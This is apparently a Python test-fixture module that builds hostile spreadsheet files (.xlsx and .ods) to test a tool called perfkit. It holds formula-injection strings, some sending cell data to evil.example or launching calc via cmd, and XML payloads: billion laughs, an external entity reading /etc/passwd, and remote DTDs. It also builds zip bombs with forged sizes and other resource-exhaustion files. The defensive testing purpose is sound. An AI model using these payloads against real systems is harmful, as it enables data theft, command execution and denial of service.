"""Builders for the hostile corpus: workbooks written part by part, so that every part can be made to attack.

Nothing here is stored: each test builds its file in ``tmp_path``. The bombs are
small (a few MB inflated) and the tests lower perfkit's limits to meet them, except
one full-size bomb built in well under a second from repeated compressed blocks.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from xml.sax.saxutils import escape

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

MILESTONES = [
    ["Council Plan 2023/24 milestones"],
    [],
    ["Ref", "Milestone", "Lead officer", "Due date", "Q1 Status", "Q1 Commentary", "Q2 Status", "Q2 Commentary"],
    ["M1", "Open the new library", "A. Officer", "2024-03-31", "Green", "On track", "Green", "Going well"],
    ["M2", "Resurface the high street", "B. Officer", "2024-03-31", "Amber", "Delayed", "Red", "Contractor left"],
    ["M3", "Adopt the local plan", "C. Officer", "2024-03-31", "Green", "Consulted", "Amber", "Inspector queries"],
]

#: Text that a spreadsheet program would run as a formula, as attackers write it (OWASP's examples and more).
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
]


def col(c: int) -> str:
    s = ""
    c += 1
    while c:
        c, r = divmod(c - 1, 26)
        s = chr(65 + r) + s
    return s


def sheet_xml(rows, prolog: str = "") -> str:
    """A worksheet part holding ``rows`` as inline strings (numbers as numbers)."""
    out = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}<worksheet {NS}><sheetData>']
    for r, row in enumerate(rows, start=1):
        out.append(f'<row r="{r}">')
        for c, v in enumerate(row):
            ref = f"{col(c)}{r}"
            if v is None or v == "":
                continue
            if isinstance(v, (int, float)) and not isinstance(v, bool):
                out.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                out.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>')
        out.append("</row>")
    out.append("</sheetData></worksheet>")
    return "".join(out)


def workbook_parts(sheets: dict[str, str]) -> dict[str, bytes]:
    """The parts of a minimal .xlsx whose sheets have the given XML."""
    names = list(sheets)
    wb = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook {NS}><sheets>' + "".join(
        f'<sheet name="{escape(n)}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, start=1)
    ) + "</sheets></workbook>"
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(names) + 1)
        )
        + "</Relationships>"
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(names) + 1)
    )
    parts = {
        "[Content_Types].xml": CONTENT_TYPES.format(sheets=overrides).encode(),
        "_rels/.rels": ROOT_RELS.encode(),
        "xl/workbook.xml": wb.encode(),
        "xl/_rels/workbook.xml.rels": rels.encode(),
    }
    for i, n in enumerate(names, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheets[n].encode() if isinstance(sheets[n], str) else sheets[n]
    return parts


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


def xlsx_bytes(rows=MILESTONES, sheet="Milestones", prolog: str = "") -> bytes:
    """A small, valid .xlsx (as bytes) with one sheet of ``rows``."""
    return zip_bytes(workbook_parts({sheet: sheet_xml(rows, prolog)}))


def bomb_stream(inflated_mb: int, unit: bytes = b"<row/>" * 170_000) -> tuple[bytes, int, int]:
    """Raw deflate data that inflates to about ``inflated_mb`` MB of XML, built fast.

    Returns (compressed, inflated size, crc32). A block of repeated text is
    compressed once with a full flush and its compressed bytes repeated: each
    repeat inflates to the same block, so building 300 MB costs as little as 1.
    """
    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    tail = b"</sheetData></worksheet>"
    block = unit[: 1024 * 1024]
    n = max(1, inflated_mb)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = c2.compress(block) + c2.flush(zlib.Z_FULL_FLUSH)
    c3 = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = c3.compress(tail) + c3.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return first + body * n + end, len(head) + len(block) * n + len(tail), crc


def bomb_xlsx(inflated_mb: int, declared_size: int | None = None) -> bytes:
    """A valid-looking .xlsx whose one sheet inflates to ``inflated_mb`` MB.

    ``declared_size`` makes the zip lie about the sheet's uncompressed size
    (in both its local header and central directory), as a crafted bomb does.
    """
    stream, size, crc = bomb_stream(inflated_mb)
    parts = workbook_parts({"Milestones": "<placeholder/>"})
    del parts["xl/worksheets/sheet1.xml"]
    data = bytearray(zip_bytes(parts))
    # append one more member by hand, with raw deflate data, before the central directory
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack("<II", data[eocd + 12 : eocd + 20])
    entries = int.from_bytes(data[eocd + 10 : eocd + 12], "little")
    central = bytes(data[cd_offset : cd_offset + cd_size])
    body = bytes(data[:cd_offset])
    name = b"xl/worksheets/sheet1.xml"
    declared = size if declared_size is None else declared_size
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(stream), declared, len(name), 0) + name
    offset = len(body)
    cd_entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(stream), declared,
                           len(name), 0, 0, 0, 0, 0, offset) + name
    new_body = body + local + stream
    new_central = central + cd_entry
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries + 1, entries + 1, len(new_central), len(new_body), 0)
    return new_body + new_central + end


def entity_payloads() -> dict[str, str]:
    """XML prologs that attack a parser: billion laughs, external entities, a remote DTD."""
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ) + "]>"
    return {
        "billion laughs": laughs,
        "external file": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "remote dtd": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    }


def csv_text(rows) -> str:
    out = io.StringIO()
    import csv

    csv.writer(out).writerows(rows)
    return out.getvalue()


# --------------------------------------------------------------------------- the whole-workbook budget: small files that build vast things


def shared_string_bomb(chars: int = 390_000, refs: int = 3000, extra: str = "") -> bytes:
    """An .xlsx whose one shared string of ``chars`` characters is used by ``refs`` cells (each built again by the reader).

    The text is not repetitive, so that no ratio limit refuses it: only the budget for text can.
    ``extra`` is more cells for the end of the sheet.
    """
    cells = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, refs + 1))
    parts = workbook_parts({"Milestones": f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{cells}{extra}</sheetData></worksheet>'})
    parts["xl/sharedStrings.xml"] = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                     f'count="{refs}" uniqueCount="1"><si><t>{unrepetitive(chars)}</t></si></sst>').encode()
    return zip_bytes(parts)


def unrepetitive(chars: int) -> str:
    """``chars`` letters that deflate poorly (a zip bomb's ratio check does not catch them)."""
    import base64
    import random

    rng = random.Random(chars)
    return base64.b64encode(rng.randbytes(chars * 3 // 4 + 3)).decode()[:chars].replace("+", "a").replace("/", "b")


def far_sheets(n: int, ref: str = "BZ99999") -> bytes:
    """An .xlsx of ``n`` sheets, each with a cell at ``ref``: each within the sheet limit, together past it."""
    xml = sheet_xml(MILESTONES).replace("</sheetData>", f'<row r="{ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{ref}"><v>1</v></c></row></sheetData>')
    return zip_bytes(workbook_parts({f"Q{i + 1}" if i < 4 else f"S{i}": xml for i in range(n)}))


def merge_bomb(merges: int, rows: int = 20_000) -> bytes:
    """An .xlsx whose cells reach H``rows`` and whose ``merges`` merged ranges each cover A4:H``rows - 1`` (filled in one cell at a time)."""
    xml = sheet_xml(MILESTONES).replace(
        "</sheetData>",
        f'<row r="{rows}"><c r="H{rows}"><v>1</v></c></row></sheetData><mergeCells count="{merges}">'
        + f'<mergeCell ref="A4:H{rows - 1}"/>' * merges + "</mergeCells>")
    return zip_bytes(workbook_parts({"Milestones": xml}))


def loose_cells_bomb(cells: int = 16_384, row: int = 99_999) -> bytes:
    """An .xlsx with a row at ``row`` of ``cells`` cells without references (each placed after the one before)."""
    xml = sheet_xml(MILESTONES).replace("</sheetData>", f'<row r="{row}">' + "<c><v>1</v></c>" * cells + "</row></sheetData>")
    return zip_bytes(workbook_parts({"Milestones": xml}))


def styles_bomb(elements: int, fills: bool = True) -> bytes:
    """A milestones .xlsx with status fills (so that openpyxl reads its styles) whose styles part holds ``elements`` padding elements."""
    import io
    import random

    from openpyxl import Workbook
    from openpyxl.styles import PatternFill

    wb = Workbook()
    ws = wb.active
    ws.title = "Milestones"
    for r in MILESTONES:
        ws.append(r)
    if fills:
        for row, colour in ((4, "FF0000"), (5, "FFC000"), (6, "00B050")):  # E4 says Green on red: the fill is read and said
            ws.cell(row=row, column=5).fill = PatternFill("solid", fgColor=colour)
    buf = io.BytesIO()
    wb.save(buf)
    rng = random.Random(elements)
    padding = b"<extLst><ext uri='{x}'>" + b"".join(b"<a%d/>" % rng.randrange(10**6) for _ in range(elements)) + b"</ext></extLst>"
    with zipfile.ZipFile(buf) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts["xl/styles.xml"] = parts["xl/styles.xml"].replace(b"</styleSheet>", padding + b"</styleSheet>")
    return zip_bytes(parts)


def cell_sheets(sheets: int, rows: int) -> bytes:
    """An .xlsx of ``sheets`` milestones sheets of ``rows`` items each, every cell written (8 a row): real cells, not a far one."""
    head = sheet_xml(MILESTONES[:3]).replace("</sheetData></worksheet>", "")
    statuses = ("Green", "Amber", "Red")
    body = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>M{r}</t></is></c><c r="B{r}" t="inlineStr"><is><t>Milestone {r}</t></is></c>'
                   f'<c r="C{r}" t="inlineStr"><is><t>A. Officer</t></is></c><c r="D{r}"><v>45382</v></c>'
                   f'<c r="E{r}" t="inlineStr"><is><t>{statuses[r % 3]}</t></is></c><c r="F{r}" t="inlineStr"><is><t>Note</t></is></c>'
                   f'<c r="G{r}" t="inlineStr"><is><t>{statuses[(r + 1) % 3]}</t></is></c><c r="H{r}" t="inlineStr"><is><t>Note</t></is></c></row>'
                   for r in range(4, rows + 4))
    xml = head + body + "</sheetData></worksheet>"
    return zip_bytes(workbook_parts({f"Milestones {i + 1}": xml for i in range(sheets)}))


def random_merges(merges: int, seed: int = 2) -> bytes:
    """An .xlsx whose sheet lists ``merges`` small merged ranges at random places, mostly far outside its cells."""
    import random

    rng = random.Random(seed)
    refs = "".join(f'<mergeCell ref="{col(rng.randrange(8, 16000))}{rng.randrange(1, 1_000_000)}:'
                   f'{col(rng.randrange(8, 16000))}{rng.randrange(1, 1_000_000)}"/>' for _ in range(merges))
    xml = sheet_xml(MILESTONES).replace("</worksheet>", f'<mergeCells count="{merges}">{refs}</mergeCells></worksheet>')
    return zip_bytes(workbook_parts({"Milestones": xml}))


def ods_bytes(rows, extra: str = "", sheet: str = "Milestones") -> bytes:
    """A minimal .ods of ``rows`` with ``extra`` XML at the end of its table."""
    import io

    from xml.sax.saxutils import escape as esc

    def cell(v):
        if v is None or v == "":
            return "<table:table-cell/>"
        return f'<table:table-cell office:value-type="string"><text:p>{esc(str(v))}</text:p></table:table-cell>'

    body = "".join("<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>" for row in rows)
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="{esc(sheet)}">{body}{extra}</table:table></office:spreadsheet></office:body></office:document-content>'
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", manifest)  # calamine reads no .ods without it
    return buf.getvalue()


def ods_repeated_text(chars: int = 100_000, repeats: int = 900, rows: int = 20, by: str = "columns") -> bytes:
    """An .ods whose text of ``chars`` characters is repeated ``repeats`` times by ``table:number-columns-repeated``
    (or ``-rows-``), in ``rows`` rows: a 1 MB file that builds gigabytes."""
    text = unrepetitive(chars)
    if by == "columns":
        cell = (f'<table:table-cell table:number-columns-repeated="{repeats}" office:value-type="string">'
                f"<text:p>{text}</text:p></table:table-cell>")
        extra = f"<table:table-row>{cell}</table:table-row>" * rows
    else:
        extra = (f'<table:table-row table:number-rows-repeated="{repeats}"><table:table-cell office:value-type="string">'
                 f"<text:p>{text}</text:p></table:table-cell></table:table-row>") * rows
    return ods_bytes(MILESTONES, extra)


#: numpy's BLAS reserves address space per core; one thread keeps a capped interpreter's start small anywhere.
ONE_THREAD = {"OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1", "MKL_NUM_THREADS": "1"}


def run_capped(argv: list[str], cap_mb: int = 1536, timeout: float = 30.0, cwd=None):
    """``perfkit ARGV`` in a fresh process that may use at most ``cap_mb`` of memory.

    Returns (completed process, seconds taken, peak resident memory in MB). A run that
    passes ``timeout`` fails the test (a hang); a run killed by a signal shows as a
    negative return code.
    """
    import os
    import resource
    import subprocess
    import sys
    import time

    cap = cap_mb * 1024 * 1024

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    code = ("import resource, sys\nfrom perfkit.cli import main\nrc = main(sys.argv[1:])\n"
            "print('PEAK_MB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr)\nsys.exit(rc)")
    started = time.perf_counter()
    run = subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, preexec_fn=limit,
                         timeout=timeout, env={**os.environ, **ONE_THREAD}, cwd=cwd)
    took = time.perf_counter() - started
    peak = next((int(line.split()[1]) for line in run.stderr.splitlines() if line.startswith("PEAK_MB")), -1)
    run.stderr = "\n".join(line for line in run.stderr.splitlines() if not line.startswith("PEAK_MB"))
    return run, took, peak
